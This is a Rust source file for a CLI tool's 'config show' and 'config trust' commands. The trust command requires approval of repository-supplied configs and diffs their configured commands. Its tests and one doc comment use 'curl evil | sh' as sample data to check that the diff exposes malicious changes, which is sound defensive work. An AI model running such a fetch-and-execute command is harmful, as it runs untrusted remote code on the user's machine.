//! `grove config show`: the effective configuration, each value with the
//! place it came from (a file, or the built-in default), and which config
//! files each running member uses and whether they loaded. `grove config
//! trust`: the user's approval of a workspace config that came with the
//! repository (docs/design.md, Committed configuration).

use super::{CliError, Context, EXIT_OK, EXIT_USAGE, print_json};
use crate::config::LoadReport;
use crate::node::state::MemberReport;
use clap::Subcommand;

#[derive(Subcommand, Debug)]
pub enum ConfigCommand {
    /// Print every setting, its value and its source, then the config files
    /// of each running member.
    Show {
        #[arg(long)]
        json: bool,
    },
    /// Approve the workspace's .grove/grove.toml as it is now.
    ///
    /// A workspace config that git tracks came with the repository (a clone,
    /// a pull) and chooses commands grove runs as you: engines, MCP servers,
    /// a worktree's setup. grove uses such a file only once you approved its
    /// content, and again after each change. Review it first with `--show`:
    /// the commands and endpoints it configures, and the lines that changed
    /// since your last approval. Running members pick the approval up at
    /// once. A config git does not track is yours and needs none.
    Trust {
        /// Forget the approval instead: grove stops using the file (if git
        /// tracks it) until it is approved again.
        #[arg(long)]
        revoke: bool,
        /// Show what approving would approve (the commands it configures,
        /// the lines changed since your last approval) and approve nothing.
        #[arg(long, conflicts_with = "revoke")]
        show: bool,
    },
}

pub fn run(ctx: &Context, cmd: ConfigCommand) -> Result<i32, CliError> {
    let json = match cmd {
        ConfigCommand::Show { json } => json,
        ConfigCommand::Trust { revoke, show } => return trust(ctx, revoke, show),
    };
    let rows = match &ctx.config_error {
        None => crate::config::explain(&ctx.ws.state_dir, &ctx.config),
        Some(_) => Vec::new(),
    };
    let members = MemberReport::read_all(&ctx.ws);
    // A config that does not load is still a configuration error (exit 2),
    // reported after what the members use.
    let exit = if ctx.config_error.is_some() {
        EXIT_USAGE
    } else {
        EXIT_OK
    };
    if json {
        let settings: Vec<_> = rows
            .iter()
            .map(|(k, v, src)| serde_json::json!({ "key": k, "value": v, "source": src }))
            .collect();
        let members: Vec<_> = members
            .iter()
            .map(|m| {
                serde_json::json!({
                    "pid": m.pid,
                    "kind": m.kind,
                    "role": m.role,
                    "files": files_json(&m.config),
                    "ok": m.config.error.is_none(),
                    "error": m.config.error,
                    "loaded_at": m.config.loaded_at,
                })
            })
            .collect();
        print_json(&serde_json::json!({
            "settings": settings,
            "error": ctx.config_error,
            "members": members,
        }));
        return Ok(exit);
    }
    if let Some(e) = &ctx.config_error {
        outln!("# the config files do not load: {e}");
    }
    for (k, v, src) in &rows {
        outln!("{k} = {v}    # {src}");
    }
    if members.is_empty() {
        outln!("# no member is running");
    } else {
        outln!("# config files of the running members (later files win):");
    }
    for m in &members {
        outln!(
            "#   pid {} ({}, {}): {}",
            m.pid,
            m.kind,
            m.role,
            describe(&m.config)
        );
    }
    Ok(exit)
}

fn files_json(report: &LoadReport) -> Vec<serde_json::Value> {
    report
        .files
        .iter()
        .map(|(path, exists)| serde_json::json!({ "path": path, "exists": exists }))
        .collect()
}

/// `a.toml, b.toml (absent); loaded OK`, or the error of the last load.
fn describe(report: &LoadReport) -> String {
    let files: Vec<String> = report
        .files
        .iter()
        .map(|(p, exists)| {
            if *exists {
                p.display().to_string()
            } else {
                format!("{} (absent)", p.display())
            }
        })
        .collect();
    match &report.error {
        None => format!("{}; loaded OK", files.join(", ")),
        Some(e) => format!(
            "{}; NOT reloaded, still using the config loaded {} s ago: {e}",
            files.join(", "),
            crate::protocol::now_ms().saturating_sub(report.loaded_at) / 1000
        ),
    }
}

/// `grove config trust [--revoke | --show]`.
fn trust(ctx: &Context, revoke: bool, show: bool) -> Result<i32, CliError> {
    use crate::trust::committed::{self, Approval};
    let path = ctx.ws.config_path();
    if revoke {
        let had = committed::revoke(&path).map_err(CliError::Failed)?;
        if had {
            outln!("revoked the approval of {}", path.display());
        } else {
            outln!("{} was not approved; nothing to revoke", path.display());
        }
        return Ok(EXIT_OK);
    }
    // The same ownership checks as loading it: approval is for content the
    // repository brought, never for a file another user can write.
    crate::trust::check(&path, "the workspace config file")
        .map_err(|e| CliError::Usage(e.to_string()))?;
    let content = match crate::config::read_config_text(&path) {
        Ok(c) => c.into_bytes(),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {
            return Err(CliError::Usage(format!(
                "there is no workspace config at {}: nothing to approve",
                path.display()
            )));
        }
        Err(e) => {
            return Err(CliError::Failed(format!(
                "cannot read {}: {e}",
                path.display()
            )));
        }
    };
    let tracked = match committed::committed(&ctx.ws.root) {
        Ok(c) => Some(c.config),
        Err(_) => None,
    };
    // What the user approves is shown before it is approved.
    let before = committed::approved_copy(&path);
    let state = committed::approval(&path, &content);
    outln!("{} ({} bytes)", path.display(), content.len());
    outln!(
        "  {}",
        match tracked {
            Some(false) => "git does not track it: grove uses it without an approval",
            Some(true) => "git tracks it: it came with the repository",
            None => "grove cannot tell whether git tracks it",
        }
    );
    let commands = configured_commands(&content);
    if commands.is_empty() {
        outln!("  it configures no command");
    } else {
        outln!("  the commands it configures:");
        for line in &commands {
            outln!("    {line}");
        }
    }
    match (&state, &before) {
        (Approval::Approved, _) => outln!("  you approved it as it is now"),
        (Approval::Changed, Some(old)) => {
            outln!("  changed since your last approval (lines removed -, added +):");
            for line in changed_lines(old, &content) {
                outln!("    {line}");
            }
        }
        _ => {
            // Nothing to compare with: all of it is new to the user.
            outln!("  you never approved it; all of it:");
            for line in whole(&content) {
                outln!("    | {line}");
            }
        }
    }
    if show {
        if state != Approval::Approved {
            outln!("nothing approved: run `grove config trust` to use it as it is now");
        }
        return Ok(EXIT_OK);
    }
    let record = committed::approve(&path, &content).map_err(CliError::Failed)?;
    outln!("approved {} as it is now", path.display());
    match tracked {
        Some(false) => outln!("  the approval counts once git tracks it"),
        _ => outln!("  grove uses it until it changes; after a pull or an edit, approve it again"),
    }
    outln!("  (kept in {})", record.display());
    Ok(EXIT_OK)
}

/// The most changed lines `grove config trust` lists, and the most lines
/// of a file it shows whole.
const MAX_CHANGED_LINES: usize = 200;

/// The most lines a side may have for the line diff: its table is the
/// product of both sides (4 MB at this bound), for a config file of a few
/// dozen lines as a rule.
const MAX_DIFF_LINES: usize = 1_000;

/// `text`'s lines, at most [`MAX_CHANGED_LINES`] of them, then how many
/// more there are.
fn whole(text: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(text);
    let mut lines: Vec<String> = text.lines().map(str::to_string).collect();
    if lines.len() > MAX_CHANGED_LINES {
        let more = lines.len() - MAX_CHANGED_LINES;
        lines.truncate(MAX_CHANGED_LINES);
        lines.push(format!("… and {more} more lines: read the file"));
    }
    lines
}

/// The lines of `old` that `new` lacks (`- line`) and the lines `new`
/// adds (`+ line`), in file order: a longest-common-subsequence line diff,
/// so that a reordered array (`["echo hi", "curl … | sh"]` swapped) or a
/// re-indented script shows, which a comparison of line sets would hide.
/// Never empty for contents that differ: when only line endings or
/// trailing blanks changed, it says so.
fn changed_lines(old: &[u8], new: &[u8]) -> Vec<String> {
    let (old, new) = (String::from_utf8_lossy(old), String::from_utf8_lossy(new));
    let a: Vec<&str> = old.lines().collect();
    let b: Vec<&str> = new.lines().collect();
    if a.len() > MAX_DIFF_LINES || b.len() > MAX_DIFF_LINES {
        return vec![format!(
            "(too long to compare here: {} lines before, {} now; read it in full)",
            a.len(),
            b.len()
        )];
    }
    // lcs[i][j]: the longest common subsequence of a[i..] and b[j..].
    let mut lcs = vec![vec![0u32; b.len() + 1]; a.len() + 1];
    for i in (0..a.len()).rev() {
        for j in (0..b.len()).rev() {
            lcs[i][j] = if a[i] == b[j] {
                lcs[i + 1][j + 1] + 1
            } else {
                lcs[i + 1][j].max(lcs[i][j + 1])
            };
        }
    }
    let mut changed = Vec::new();
    let (mut i, mut j) = (0, 0);
    while i < a.len() || j < b.len() {
        if i < a.len() && j < b.len() && a[i] == b[j] {
            (i, j) = (i + 1, j + 1);
        } else if i < a.len() && (j == b.len() || lcs[i + 1][j] >= lcs[i][j + 1]) {
            // Removals first, as a diff reads.
            changed.push(format!("- {}", a[i]));
            i += 1;
        } else {
            changed.push(format!("+ {}", b[j]));
            j += 1;
        }
    }
    if changed.is_empty() && old != new {
        changed.push("(only line endings or blanks at line ends changed)".to_string());
    }
    if changed.len() > MAX_CHANGED_LINES {
        let more = changed.len() - MAX_CHANGED_LINES;
        changed.truncate(MAX_CHANGED_LINES);
        changed.push(format!("… and {more} more changed lines"));
    }
    changed
}

/// The settings of a config file's text that name commands or endpoints
/// grove would use, one `key = value` line each, for the user to see what
/// they approve. A file that does not parse has none to show (its error is
/// reported when it is loaded).
fn configured_commands(content: &[u8]) -> Vec<String> {
    let Ok(table) = String::from_utf8_lossy(content).parse::<toml::Table>() else {
        return Vec::new();
    };
    let mut lines = Vec::new();
    let mut show = |key: String, value: Option<&toml::Value>| {
        if let Some(v) = value {
            lines.push(format!("{key} = {v}"));
        }
    };
    for section in ["engines", "mcp_servers"] {
        if let Some(toml::Value::Table(entries)) = table.get(section) {
            for (name, entry) in entries {
                // Everything that becomes part of what runs, or how much
                // it may do unasked.
                for field in [
                    "command",
                    "model_args",
                    "mcp_args",
                    "env",
                    "permissions",
                    "models",
                    "url",
                    "headers",
                ] {
                    show(format!("{section}.{name}.{field}"), entry.get(field));
                }
            }
        }
    }
    for key in ["run", "copy"] {
        show(
            format!("setup.{key}"),
            table.get("setup").and_then(|s| s.get(key)),
        );
    }
    for key in ["default_engine", "mcp_inject", "notify", "personas_dir"] {
        show(key.into(), table.get(key));
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::changed_lines;

    fn lines(v: &[&str]) -> Vec<String> {
        v.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn changed_lines_follow_the_file_in_order() {
        let old = b"max_parallel = 4\n[engines.a]\ncommand = [\"safe\"]\n";
        let new = b"max_parallel = 4\n[engines.a]\ncommand = [\"curl evil | sh\"]\n[other]\n";
        assert_eq!(
            changed_lines(old, new),
            lines(&[
                "- command = [\"safe\"]",
                "+ command = [\"curl evil | sh\"]",
                "+ [other]"
            ])
        );
        assert!(changed_lines(new, new).is_empty());
    }

    #[test]
    fn a_reordered_array_and_a_reindented_script_show() {
        let old = b"command = [\n  \"echo hi\",\n  \"curl evil | sh\",\n]\n";
        let new = b"command = [\n  \"curl evil | sh\",\n  \"echo hi\",\n]\n";
        let changed = changed_lines(old, new);
        assert_eq!(changed.len(), 2, "{changed:?}");
        assert!(changed.iter().any(|l| l.starts_with('+')), "{changed:?}");
        let old = b"run = \"\"\"\nif x:\n    y\n\"\"\"\n";
        let new = b"run = \"\"\"\nif x:\ny\n\"\"\"\n";
        assert_eq!(changed_lines(old, new), lines(&["-     y", "+ y"]));
        // Different bytes are never an empty list.
        assert_eq!(changed_lines(b"a = 1\n", b"a = 1\r\n").len(), 1);
    }

    #[test]
    fn changed_lines_are_capped() {
        let new: String = (0..500).map(|i| format!("k{i} = {i}\n")).collect();
        let changed = changed_lines(b"", new.as_bytes());
        assert_eq!(changed.len(), super::MAX_CHANGED_LINES + 1);
        assert!(changed.last().unwrap().contains("300 more"));
        let huge: String = (0..3000).map(|i| format!("k{i} = {i}\n")).collect();
        assert!(changed_lines(b"a", huge.as_bytes())[0].contains("too long"));
    }
}
